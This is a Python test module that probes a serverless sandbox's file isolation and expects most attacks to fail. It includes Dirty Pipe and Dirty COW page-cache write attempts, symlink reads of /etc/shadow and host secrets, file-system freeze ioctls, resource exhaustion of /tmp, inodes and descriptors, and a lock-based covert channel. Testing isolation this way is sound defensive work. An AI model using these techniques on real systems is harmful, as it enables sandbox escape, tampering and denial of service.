"""Files: what is read-only, what is shared, and what fills up."""

import ctypes
import fcntl
import mmap
import os

from .attack import attack, facts, those_that_succeed
from .system import CODE, TMP, libc
GIB = 1 << 30


@attack("none succeeds")
def plant_a_file():
    """Make a file in any directory but /tmp."""
    places = ["/", CODE, "/var", "/usr", "/usr/lib", "/etc", "/opt", "/var/runtime", "/proc", "/proc/self", "/dev", "/bin", "/home", "/root", "/run", "/mnt", "/var/tmp", "/dev/shm"]
    return those_that_succeed({place: lambda place=place: open(place + "/planted", "w").close() for place in places})


@attack("none succeeds")
def change_the_code():
    """Change the function's code and the runtime: by name, by reopening a descriptor, by a shared mapping, by chmod."""
    code = f"{CODE}/attacks/attack.py"
    readable = os.open(code, os.O_RDONLY)
    return those_that_succeed(
        {
            "by name": lambda: os.open(code, os.O_WRONLY),
            "reopened": lambda: os.open(f"/proc/self/fd/{readable}", os.O_RDWR),
            "truncated": lambda: os.truncate(code, 0),
            "mapped": lambda: mmap.mmap(readable, 0, mmap.MAP_SHARED, mmap.PROT_WRITE),
            "chmod": lambda: os.chmod(code, 0o666),
            "removed": lambda: os.unlink(code),
            "replaced": lambda: os.rename(f"{CODE}/attacks", f"{CODE}/away"),
            "touched": lambda: os.utime(code),
            "an attribute": lambda: os.setxattr(code, "user.x", b"1"),
            "the interpreter": lambda: os.open(os.path.realpath("/proc/self/exe"), os.O_WRONLY),
        }
    )


@attack("none succeeds")
def write_to_the_page_cache():
    """Write into read-only files past their mode, as "Dirty COW" and "Dirty Pipe" did."""
    code = f"{CODE}/attacks/__init__.py"
    before = open(code, "rb").read()

    def dirty_pipe():
        reading, writing = os.pipe()
        size = fcntl.fcntl(writing, 1032)
        os.write(writing, bytes(size))
        os.read(reading, size)
        source = os.open(code, os.O_RDONLY)
        os.splice(source, writing, 1, offset_src=0)
        os.write(writing, b"planted")
        if open(code, "rb").read() == before:
            raise OSError

    def dirty_cow():
        source = os.open(code, os.O_RDONLY)
        private = mmap.mmap(source, len(before), mmap.MAP_PRIVATE, mmap.PROT_READ)
        libc.mmap.restype = ctypes.c_void_p
        address = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, source, 0)
        memory = os.open("/proc/self/mem", os.O_RDWR)
        os.pwrite(memory, b"planted", address)
        libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)
        if private[: len(before)] == before and open(code, "rb").read() == before:
            raise OSError

    return those_that_succeed({"pipe": dirty_pipe, "mapping": dirty_cow})


@attack("EXDEV or EPERM or EACCES or EROFS")
def hard_link_to_the_host():
    """Link a host's file into /tmp, to keep it when it is replaced."""
    os.link("/usr/bin/env", f"{TMP}/env")


@attack("none succeeds")
def link_to_the_host():
    """Follow symbolic links to the host's files."""

    def follow(target):
        link = f"{TMP}/link-{abs(hash(target))}"
        os.symlink(target, link)
        try:
            open(link, "rb").read(1)
        finally:
            os.unlink(link)

    targets = [facts["secret"], "/proc/1/root" + facts["secret"], "/proc/1/cwd/x", "/etc/shadow", "/../../.." + facts["secret"]]
    return those_that_succeed({target: lambda target=target: follow(target) for target in targets})


@attack("none succeeds")
def freeze_the_file_system():
    """Freeze, trim, shut down or grow the file system of /tmp, behind which lies a file of the host's."""
    directory = os.open(TMP, os.O_RDONLY)
    calls = {"FIFREEZE": 0xC0045877, "FITRIM": 0xC0185879, "shut down": 0x8004587D, "grow": 0x40086610, "swap boot": 0x6611}
    return those_that_succeed({name: lambda call=call: fcntl.ioctl(directory, call, bytearray(24)) for name, call in calls.items()})


@attack("ENOSPC", landlock="ENOSPC or EFBIG or ENOMEM", function={"Timeout": 60, "MemorySize": 1769})
def fill_tmp():
    """Write 700 MB into the 512 MB of /tmp."""
    try:
        with open(f"{TMP}/filler", "wb", buffering=0) as filler:
            for _ in range(700):
                filler.write(bytes(1 << 20))
    finally:
        os.unlink(f"{TMP}/filler")


@attack("ENOSPC", landlock="ENOSPC or EFBIG or ENOMEM", function={"Timeout": 60, "MemorySize": 1769})
def reserve_all_of_tmp():
    """Reserve 2 GiB of /tmp without writing."""
    with open(f"{TMP}/reserved", "wb") as file:
        try:
            os.posix_fallocate(file.fileno(), 0, 2 * GIB)
        finally:
            os.unlink(f"{TMP}/reserved")


@attack("a hole takes no room or EFBIG")
def sparse_file():
    """Make a file of a terabyte that has nothing in it."""
    with open(f"{TMP}/sparse", "wb") as file:
        try:
            file.truncate(1 << 40)
            return "a hole takes no room" if os.stat(f"{TMP}/sparse").st_blocks == 0 else "it takes room"
        finally:
            os.unlink(f"{TMP}/sparse")


@attack("ENOSPC", landlock="Runtime.ExitError", function={"Timeout": 60, "MemorySize": 1769})
def inodes():
    """Make half a million empty files in /tmp."""
    for number in range(500_000):
        if number % 10_000 == 0:
            os.mkdir(f"{TMP}/{number // 10_000}")
        os.mknod(f"{TMP}/{number // 10_000}/{number}")


@attack("ENOSPC or 3000 deep", landlock="Runtime.ExitError or 3000 deep", alone=True)
def deep_directories():
    """Nest directories 3000 deep, which has overflowed stacks of programs that clean up."""
    os.chdir(TMP)
    try:
        for _ in range(3000):
            os.mkdir("deep-down")
            os.chdir("deep-down")
    finally:
        os.chdir(CODE)
    return "3000 deep"


@attack("EMFILE")
def descriptors():
    """Open more files than 1024."""
    opened = []
    try:
        for _ in range(5000):
            opened.append(os.open("/dev/null", os.O_RDONLY))
    finally:
        for descriptor in opened:
            os.close(descriptor)


@attack("EMFILE or ENOMEM or 10000 locks")
def locks():
    """Take 10 000 locks on parts of one file."""
    with open(f"{TMP}/locked", "wb") as file:
        for number in range(10_000):
            fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * number)
    return "10000 locks"


@attack("granted")
def lock_a_shared_file():
    """Lock a file of the host's that all environments share. It is granted, and others' locks on it wait: a covert channel."""
    with open("/usr/bin/env") as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return "granted"
